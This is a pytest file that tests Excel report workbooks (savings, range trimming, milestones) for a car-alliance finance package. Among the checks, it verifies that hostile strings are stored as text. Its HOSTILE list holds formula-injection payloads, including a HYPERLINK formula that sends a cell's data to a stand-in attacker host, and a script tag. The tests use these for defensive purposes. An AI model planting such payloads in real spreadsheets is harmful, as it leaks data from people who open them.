"""Tests of the Excel workbooks (alliance_fin.excel*).

Fast tests inspect the written files (XML, openpyxl, pandas); the tests marked ``slow``
recalculate the workbooks with LibreOffice headless (tests/libreoffice.py) and compare with the
library. LibreOffice is required for those: they fail, never skip, when it is missing.
"""

from __future__ import annotations

import dataclasses
import re
import time
import zipfile
from pathlib import Path

import libreoffice as lo  # tests/libreoffice.py (pytest puts tests/ on sys.path)
import openpyxl
import pandas as pd
import pytest
from openpyxl.formula.tokenizer import Tokenizer

from alliance_fin.errors import ReportError
from alliance_fin.excel.milestones import write_milestones_workbook
from alliance_fin.excel.savings import write_savings_workbook
from alliance_fin.excel.trimming import write_trimming_workbook
from alliance_fin.inputs.load import assumption_values, load_assumptions, load_lineup
from alliance_fin.present.milestones import build_milestones_report
from alliance_fin.present.savings import build_savings_report
from alliance_fin.present.trimming import build_trimming_report
from alliance_fin.registry import REPORT_SPECS

RUN_INFO = {"run_id": "test-run", "scenario": "base", "created": "2024-05-01T12:00:00",
            "data_file": "lineup.csv", "data_sha256": "0" * 64, "version": "0.1.0"}
SAVINGS_PARAMS = {"scenario": "base", "currency": "GBP", "start_year": 2020, "end_year": 2025,
                  "max_saving_rate": 0.40, "follower_diff_share": 0.20, "discount_rate": 0.08}
TRIM_PARAMS = {"scenario": "base", "currency": "EUR", "start_year": 2020, "end_year": 2025,
               "min_volume": 20000, "migration_rate": 0.5, "rule_planned": True,
               "rule_low_volume": True, "rule_overlap": True, "keep": "", "cut": "R06"}
MILESTONE_PARAMS = {"scenario": "base", "currency": "EUR", "start_year": 2020, "end_year": 2025,
                    "launch_delay_years": 1, "as_of_year": 2020, "amber_tolerance": 0.05,
                    "target_lf_share": 0.5, "target_lf_year": 2025, "target_platform_share": 0.8,
                    "target_platform_year": 2024, "apply_trimming": False}
HOSTILE = ["=1+1", '=HYPERLINK("http://evil.example/?d="&A3,"Click me")', "+1", "-1",
           "@SUM(1)", "\tleading tab", "#N/A", "<script>alert(1)</script>", "==== title", "#REF!"]
ALLOWED_FUNCTIONS = {"SUM", "SUMIFS", "COUNTIFS", "SUMPRODUCT", "INDEX", "MATCH", "IF", "AND",
                     "NOT", "MIN", "MAX", "ABS", "ROUND", "ISNUMBER", "LOWER", "ROWS", "IFERROR", "INT",
                     "VALUE", "OR", "TRIM"}


# ------------------------------------------------------------------------------ fixtures
@pytest.fixture(scope="module")
def inputs() -> tuple[pd.DataFrame, pd.DataFrame, dict[str, float]]:
    assumptions = load_assumptions()
    return load_lineup(), assumptions, assumption_values(assumptions)


def savings_library(lineup: pd.DataFrame, assumptions: pd.DataFrame, params: dict) -> dict:
    """The figures the savings workbook proves, from the report built with ``params``."""
    return build_savings_report(lineup=lineup, assumptions=assumptions, **params).results["checks"]


def write_savings(path: Path, lineup: pd.DataFrame, assumptions: pd.DataFrame,
                  values: dict[str, float], params: dict = SAVINGS_PARAMS) -> tuple[list[str], dict]:
    report = build_savings_report(lineup=lineup, assumptions=assumptions, **params)
    warnings = write_savings_workbook(path, report, run_info=RUN_INFO)
    return warnings, report.results["checks"]


def write_trimming(path: Path, lineup, assumptions, values) -> dict:
    report = build_trimming_report(lineup=lineup, assumptions=assumptions, **TRIM_PARAMS)
    write_trimming_workbook(path, report, run_info=RUN_INFO)
    return report.headline


def write_milestones(path: Path, lineup, assumptions, values) -> dict:
    report = build_milestones_report(lineup=lineup, assumptions=assumptions, **MILESTONE_PARAMS)
    write_milestones_workbook(path, report, run_info=RUN_INFO)
    return report.headline


@pytest.fixture(scope="module")
def hostile_lineup(inputs) -> pd.DataFrame:
    lineup = inputs[0].copy()
    names = HOSTILE + ["bell\x07char", "lone\ud800surrogate", "x" * 40_000]
    lineup.loc[: len(names) - 1, "model_name"] = names
    lineup.loc[: len(HOSTILE) - 1, "notes"] = HOSTILE
    return lineup


@pytest.fixture(scope="module")
def books(tmp_path_factory, inputs) -> dict[str, tuple[Path, dict]]:
    lineup, assumptions, values = inputs
    out = tmp_path_factory.mktemp("books")
    _, lib = write_savings(out / "savings.xlsx", lineup, assumptions, values)
    return {
        "savings": (out / "savings.xlsx", lib),
        "range_trimming": (out / "range_trimming.xlsx",
                           write_trimming(out / "range_trimming.xlsx", lineup, assumptions, values)),
        "milestones": (out / "milestones.xlsx",
                       write_milestones(out / "milestones.xlsx", lineup, assumptions, values)),
    }


def sheet_xml(path: Path, title: str) -> str:
    wb = openpyxl.load_workbook(path)
    index = wb.sheetnames.index(title) + 1
    with zipfile.ZipFile(path) as zf:
        return zf.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")


# ------------------------------------------------------------------------------ fast tests
def test_hostile_strings_are_text_not_formulas(tmp_path, inputs, hostile_lineup):
    lineup, assumptions, values = inputs
    path = tmp_path / "hostile.xlsx"
    warnings, _ = write_savings(path, hostile_lineup, assumptions, values)
    wb = openpyxl.load_workbook(path)
    ws = wb["Data"]
    header = [c.value for c in ws[1]]
    name_col, notes_col = header.index("model_name") + 1, header.index("notes") + 1
    for i, text in enumerate(HOSTILE):
        for col in (name_col, notes_col):
            cell = ws.cell(row=i + 2, column=col)
            assert cell.value == text and cell.data_type == "s", (text, cell.value, cell.data_type)
    # no formula anywhere on the Data sheet: every cell there is data
    assert "<f>" not in sheet_xml(path, "Data") and "<f " not in sheet_xml(path, "Data")
    # illegal characters replaced visibly and reported; long text cut and reported
    assert ws.cell(row=len(HOSTILE) + 2, column=name_col).value == "bell\ufffdchar"
    assert ws.cell(row=len(HOSTILE) + 3, column=name_col).value == "lone\ufffdsurrogate"
    assert len(ws.cell(row=len(HOSTILE) + 4, column=name_col).value) == 32_767
    assert any("U+FFFD" in w for w in warnings) and any("cut to 32767" in w for w in warnings)


def test_reproducible_bytes_with_source_date_epoch(tmp_path, inputs, monkeypatch):
    lineup, assumptions, values = inputs
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    write_savings(tmp_path / "a.xlsx", lineup, assumptions, values)
    time.sleep(2.1)  # zip times have 2 s resolution: a real clock leak would show
    write_savings(tmp_path / "b.xlsx", lineup, assumptions, values)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    with zipfile.ZipFile(tmp_path / "a.xlsx") as zf:
        core = zf.read("docProps/core.xml").decode()
        assert {i.date_time for i in zf.infolist()} == {(2023, 11, 14, 22, 13, 20)}
    assert core.count("2023-11-14T22:13:20Z") == 2
    cover = openpyxl.load_workbook(tmp_path / "a.xlsx")["Cover"]
    assert "2023-11-14T22:13:20Z" in [c.value for row in cover.iter_rows() for c in row]


def test_read_excel_data_sheet_types(books, inputs):
    lineup = inputs[0]
    for path, _ in books.values():
        data = pd.read_excel(path, sheet_name="Data", keep_default_na=False, na_values=[""])
        assert list(data.columns) == list(lineup.columns)
        assert data["model_id"].tolist() == lineup["model_id"].tolist()
        assert data["launch_year"].dtype.kind == "i" and data["annual_volume"].dtype.kind in "if"
        assert data["common_platform"].dtype == bool
        assert (data["annual_volume"].to_numpy() == lineup["annual_volume"].to_numpy()).all()


@pytest.mark.parametrize("report", ["savings", "range_trimming", "milestones"])
def test_structure_names_formulas_and_print_setup(books, inputs, report):
    path, _ = books[report]
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[:3] == ["Cover", "Assumptions", "Data"] and wb.sheetnames[-1] == "Checks"
    assert wb.calculation.fullCalcOnLoad
    used = [k for k in inputs[1].index if REPORT_SPECS[report].uses_assumption(k)]
    assert used
    for key in used:  # every assumption the report uses, and only those (registry assumption_keys)
        assert key in wb.defined_names, key
    listed = {row[0] for row in wb["Assumptions"].iter_rows(min_row=2, values_only=True)}
    assert listed & set(inputs[1].index) == set(used)
    assert "checks_ok" in wb.defined_names
    assert wb["Data"].tables and wb["Data"].freeze_panes == "B2"
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape" and ws.print_area
        assert ws.oddFooter.right.text
        width = sum(ws.column_dimensions[openpyxl.utils.get_column_letter(c)].width or 8
                    for c in range(1, ws.max_column + 1))
        if width <= 230:  # fitted to one page width only while that stays legible
            assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
        else:  # wide sheets print at 100 % over several pages, header row and key column repeated
            assert not ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
            assert ws.print_title_rows == "$1:$1" and ws.print_title_cols == "$A:$A", ws.title
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    names = {t.value.rstrip("(").upper() for t in Tokenizer(cell.value).items
                             if t.type == "FUNC" and t.subtype == "OPEN"}
                    assert names <= ALLOWED_FUNCTIONS, (ws.title, cell.coordinate, names)
                    assert "_xlfn" not in cell.value
    with zipfile.ZipFile(path) as zf:
        charts = [n for n in zf.namelist() if n.startswith("xl/charts/chart")]
    assert charts


def test_failed_write_keeps_previous_file(tmp_path, inputs):
    lineup, assumptions, values = inputs
    path = tmp_path / "savings.xlsx"
    write_savings(path, lineup, assumptions, values)
    before = path.read_bytes()
    report = build_savings_report(lineup=lineup, assumptions=assumptions, **SAVINGS_PARAMS)
    broken = dataclasses.replace(report, inputs=dataclasses.replace(
        report.inputs, assumptions=report.assumptions.drop(index="dev_lead_years")))
    with pytest.raises(ReportError):  # a formula names an assumption the sheet lacks
        write_savings_workbook(path, broken, run_info=RUN_INFO)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["savings.xlsx"]


# ------------------------------------------------------------------------------ LibreOffice
@pytest.mark.slow
@pytest.mark.parametrize("report", ["savings", "range_trimming", "milestones"])
def test_libreoffice_recalculation_matches_library(books, tmp_path, report):
    path, library = books[report]
    wb = lo.recalculate(path, tmp_path)
    assert lo.error_cells(wb) == []
    assert lo.named_value(wb, "checks_ok") is True
    for key, expected in library.items():
        if isinstance(expected, (int, float)) and key in wb.defined_names:  # the named headline cells
            got = lo.named_value(wb, key)
            assert got == pytest.approx(float(expected), rel=1e-9, abs=1e-9), key
    checks = pd.read_excel(tmp_path / path.name, sheet_name="Checks").dropna(subset=["library_value"])
    assert checks["ok"].all() and len(checks) >= 4


@pytest.mark.slow
def test_libreoffice_assumption_change_moves_totals(tmp_path, inputs):
    lineup, assumptions, values = inputs
    path = tmp_path / "savings.xlsx"
    _, base = write_savings(path, lineup, assumptions, values)
    wb = openpyxl.load_workbook(path)
    (sheet, ref), = list(wb.defined_names["max_saving_rate"].destinations)
    wb[sheet][ref.replace("$", "")].value = 0.30
    edited = tmp_path / "edited.xlsx"
    wb.save(edited)
    expected = savings_library(lineup, assumptions, {**SAVINGS_PARAMS, "max_saving_rate": 0.30})
    got = lo.recalculate(edited, tmp_path / "lo")
    assert lo.error_cells(got) == []
    for key in ("total_savings_eur_m", "savings_pct", "npv_savings_eur_m", "total_savings_report_ccy_m"):
        assert lo.named_value(got, key) == pytest.approx(expected[key], rel=1e-9), key
    assert expected["total_savings_eur_m"] < base["total_savings_eur_m"]
    # the library values on Checks are the old ones, so the workbook now flags the difference
    assert lo.named_value(got, "checks_ok") is False


@pytest.mark.slow
def test_libreoffice_hostile_strings_stay_text(tmp_path, inputs, hostile_lineup):
    lineup, assumptions, values = inputs
    path = tmp_path / "hostile.xlsx"
    write_savings(path, hostile_lineup, assumptions, values)
    wb = lo.recalculate(path, tmp_path / "lo")
    ws = wb["Data"]
    header = [c.value for c in ws[1]]
    col = header.index("model_name") + 1
    got = [ws.cell(row=i + 2, column=col).value for i in range(len(HOSTILE))]
    assert got == HOSTILE
    assert "Click me" not in {c.value for row in ws.iter_rows() for c in row}
    assert lo.named_value(wb, "checks_ok") is True
    assert not re.search(r"<f>", sheet_xml(tmp_path / "lo" / path.name, "Data"))


@pytest.mark.slow
def test_read_excel_summary_sheets_after_recalculation(books, tmp_path):
    path, library = books["savings"]
    lo.convert(path, tmp_path)
    recalc = tmp_path / path.name
    summary = pd.read_excel(recalc, sheet_name="Summary")
    assert list(summary.columns) == ["key", "value", "unit", "description"]
    assert summary.set_index("key").loc["total_savings_eur_m", "value"] == pytest.approx(
        library["total_savings_eur_m"])
    members = pd.read_excel(recalc, sheet_name="By member")
    assert members.columns[:6].tolist() == ["member", "models", "development_eur_m",
                                            "production_eur_m", "other_eur_m", "total_eur_m"]
    assert members["total_eur_m"].dtype.kind == "f" and members["models"].dtype.kind == "i"
    years = pd.read_excel(recalc, sheet_name="By year").iloc[:-1]
    assert years["year"].astype(int).tolist() == list(range(2020, 2026))
    assert years["total_eur_m"].tolist() == pytest.approx(
        [library["by_year"][y] for y in range(2020, 2026)])


@pytest.mark.parametrize("report", ["savings", "range_trimming", "milestones"])
def test_charts_readable_legends_html_colours_straight_lines(books, report):
    from alliance_fin.present.plots import CATEGORY_COLORS, MEMBER_COLORS

    path, _ = books[report]
    with zipfile.ZipFile(path) as zf:
        charts = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/charts/chart")]
    for xml in charts:
        for series in re.findall(r"<ser>.*?</ser>", xml):
            title = re.search(r"<tx><v>([^<]*)</v></tx>", series)
            assert title, series[:200]  # literal legend text, not a reference to a key header
            assert "_" not in title.group(1), title.group(1)
            if "<smooth" in series:
                assert '<smooth val="0"' in series
            name = title.group(1)
            if name in MEMBER_COLORS:
                assert MEMBER_COLORS[name].lstrip("#").upper() in series
            if name.lower() in CATEGORY_COLORS:
                assert CATEGORY_COLORS[name.lower()].lstrip("#").upper() in series
    if report == "savings":  # members in the HTML's order, in the HTML's colours
        by_year = [x for x in charts if "Savings by year and member" in x][0]
        assert re.findall(r"<tx><v>([^<]*)</v></tx>", by_year) == ["Renault", "Nissan", "Mitsubishi"]


def test_workbook_colours_are_the_html_colours():
    from alliance_fin.excel.style import STYLE
    from alliance_fin.present.plots import CATEGORY_COLORS, MEMBER_COLORS

    assert {k: "#" + v for k, v in STYLE["member_colors"].items()} == MEMBER_COLORS
    assert {k: "#" + v for k, v in STYLE["category_colors"].items()} == CATEGORY_COLORS


def test_savings_workbook_has_every_html_table(books):
    path, library = books["savings"]
    wb = openpyxl.load_workbook(path)
    assert {"By family", "Waterfall", "Sensitivity", "Tornado"} <= set(wb.sheetnames)
    for sheet in ("By family", "Waterfall", "Sensitivity"):  # calculations: live formulas
        assert any(c.data_type == "f" for row in wb[sheet].iter_rows(min_row=2) for c in row[1:]), sheet
    cover = [c.value for row in wb["Cover"].iter_rows() for c in row if isinstance(c.value, str)]
    assert "Fixed figures" in cover and "Tornado" in cover  # the tornado's totals are data, said plainly
    tornado = pd.read_excel(path, sheet_name="Tornado")
    assert not tornado["assumption"].dropna().str.fullmatch(r"[a-z0-9_]+").any()  # readable labels
    grid = pd.read_excel(path, sheet_name="Sensitivity", index_col=0, nrows=5)
    base = grid.loc[SAVINGS_PARAMS["max_saving_rate"], SAVINGS_PARAMS["follower_diff_share"]]
    assert base == pytest.approx(library["total_savings_report_ccy_m"], rel=1e-9)


def test_trimming_workbook_says_which_figures_are_fixed(books):
    path, _ = books["range_trimming"]
    wb = openpyxl.load_workbook(path)

    def texts(ws):
        return " ".join(c.value for row in ws.iter_rows() for c in row
                        if isinstance(c.value, str) and c.data_type == "s")

    assert "migrates_to" in texts(wb["Trim calc"]) and "Fixed figures" in texts(wb["Trim calc"])
    assert "migrates_to" in texts(wb["Cover"]) and "Value" in texts(wb["Cover"])
    assert "Value by year" in wb.sheetnames
